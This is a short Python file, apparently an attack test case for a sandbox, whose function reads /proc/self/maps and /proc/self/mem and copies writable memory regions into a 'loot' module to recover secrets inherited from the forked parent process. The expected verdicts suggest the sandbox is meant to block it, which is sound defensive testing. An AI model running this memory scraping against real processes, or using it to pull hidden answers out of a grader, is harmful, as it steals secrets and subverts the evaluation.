"""Searches its own memory for what the process it was forked from knew."""

# /// attack
# verdicts = { open_vault = "FAILED|TIMEOUT" }
# control = "ptrace"
# ///

import loot


def open_vault(n):
    try:
        maps = open("/proc/self/maps").read().splitlines()
        memory = open("/proc/self/mem", "rb", 0)
    except OSError:
        return loot.answer(n)
    for line in maps:
        start, end = (int(x, 16) for x in line.split()[0].split("-"))
        if " rw" in line and end - start < 1 << 26:
            try:
                memory.seek(start)
                loot.keep(memory.read(end - start))
            except (OSError, ValueError):
                pass
    return loot.answer(n)
